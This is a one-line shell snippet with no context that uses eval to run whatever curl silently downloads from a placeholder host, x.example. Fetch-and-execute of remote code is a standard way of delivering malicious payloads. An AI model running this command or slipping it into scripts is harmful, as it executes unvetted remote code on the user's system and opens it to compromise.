eval `curl -s http://x.example/a`
